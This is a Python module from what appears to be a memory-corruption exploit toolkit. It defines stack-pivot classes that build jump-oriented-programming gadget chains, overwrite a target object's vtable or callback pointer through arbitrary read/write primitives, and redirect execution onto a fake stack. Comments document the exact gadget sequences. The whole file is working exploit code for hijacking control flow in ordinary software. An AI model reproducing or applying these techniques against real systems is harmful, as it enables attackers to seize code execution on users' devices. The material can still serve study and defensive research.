import logging

from Errors import ProfileError
from Gadget import Gadget

logger = logging.getLogger(__name__)

class PivotStrategy(object):
    # leave restores rsp from the rbp the springboard saved, then returns
    # to whoever made the hijacked call
    epilogue = [Gadget.LEAVE]

    def __init__(self, ctx, host_object):
        self.ctx = ctx
        self.mem = ctx.memory
        self.gadgets = ctx.gadgets
        self.host_object = host_object
        self.stack_addr = None

    def attach(self, stack_addr):
        raise NotImplementedError

    def hijack(self):
        raise NotImplementedError

# Common tail of every springboard:
#
#   jop2: push rbp; mov rbp, rsp; mov rax, [rdi]; call [rax + 0x30]
#   jop3: mov rdx, [rax + 0x18]; mov rax, [rdi]; call [rax + 0x10]
#   jop4: push rdx; jmp [rax]
#   jop5: pop rsp; ret
#
# with rdi = jop_buffer and *jop_buffer = rax_ptrs on entry to jop2.
class JopPivot(PivotStrategy):
    RAX_PTRS_SIZE = 0x100

    def attach(self, stack_addr):
        g = self.gadgets
        g.require(Gadget.JOP2, Gadget.JOP3, Gadget.JOP4, Gadget.POP_RSP, *self.epilogue)
        self.stack_addr = stack_addr

        self.rax_ptrs = self.mem.alloc(self.RAX_PTRS_SIZE)
        self.rax_ptrs.write64(0, g[Gadget.POP_RSP])
        self.rax_ptrs.write64(8, g[Gadget.JOP2])
        self.rax_ptrs.write64(0x10, g[Gadget.JOP4])
        # value to pivot rsp to
        self.rax_ptrs.write64(0x18, stack_addr)
        self.rax_ptrs.write64(0x30, g[Gadget.JOP3])
        self.rax_ptrs.write64(0x68, g[Gadget.JOP2])

        self.jop_buffer = self.mem.alloc(8)
        self.jop_buffer.write64(0, self.rax_ptrs)
        self.prepare()
        logger.debug("%s springboard ready, fake stack %s", type(self).__name__, stack_addr)

    def prepare(self):
        pass

# The host calls impl->vtable[slot_offset] with rsi = wrapper and
# wrapper + impl_offset -> impl. We swap impl's vtable pointer:
#
#   ta_jop1: mov rdi, [rsi + 0x18]; mov rax, [rdi]; call [rax + 0xb8]
#   ta_jop2: pop rsi; jmp [rax + 0x60]
#   ta_jop3: mov rdi, [rax + 8]; mov rax, [rdi]; jmp [rax + 0x68]
#
# then into jop2 with rdi = jop_buffer.
class VtablePivot(JopPivot):
    VTABLE_SIZE = 0x400
    RESERVED = [8, 0x60, 0xb8]

    def __init__(self, ctx, host_object, slot_offset=0x1c8, impl_offset=0x18):
        super(VtablePivot, self).__init__(ctx, host_object)
        if slot_offset in self.RESERVED or slot_offset + 8 > self.VTABLE_SIZE:
            raise ProfileError("vtable slot 0x{:x} unusable".format(slot_offset))
        self.slot_offset = slot_offset
        self.impl_offset = impl_offset

    def prepare(self):
        g = self.gadgets
        g.require(Gadget.TA_JOP1, Gadget.TA_JOP2, Gadget.TA_JOP3)
        wrapper = self.mem.addrof(self.host_object)
        self.impl = wrapper.readp(self.impl_offset)

        # only the hijacked slot gets called, the rest of the fake vtable
        # is free for the springboard
        self.vtable = self.mem.alloc(self.VTABLE_SIZE)
        self.vtable.write64(self.slot_offset, g[Gadget.TA_JOP1])
        self.vtable.write64(0xb8, g[Gadget.TA_JOP2])
        self.vtable.write64(0x60, g[Gadget.TA_JOP3])
        self.vtable.write64(8, self.jop_buffer)

    def hijack(self):
        old_vtable = self.impl.readp(0)
        logger.debug("vtable of %s: %s -> %s", self.impl, old_vtable, self.vtable)
        self.impl.write64(0, self.vtable)
        self.host_object.trigger()
        self.impl.write64(0, old_vtable)

# The host calls obj->callback(obj). jop1 takes rdi from obj->context:
#
#   jop1: mov rdi, [rdi + 0x30]; mov rax, [rdi]; jmp [rax + 8]
class CallbackPivot(JopPivot):
    CALLBACK_OFFSET = 0x8
    CONTEXT_OFFSET = 0x30

    def prepare(self):
        self.gadgets.require(Gadget.JOP1)
        self.obj = self.mem.addrof(self.host_object)

    def hijack(self):
        old_callback = self.obj.readp(self.CALLBACK_OFFSET)
        old_context = self.obj.readp(self.CONTEXT_OFFSET)
        self.obj.write64(self.CONTEXT_OFFSET, self.jop_buffer)
        self.obj.write64(self.CALLBACK_OFFSET, self.gadgets[Gadget.JOP1])
        self.host_object.trigger()
        self.obj.write64(self.CALLBACK_OFFSET, old_callback)
        self.obj.write64(self.CONTEXT_OFFSET, old_context)
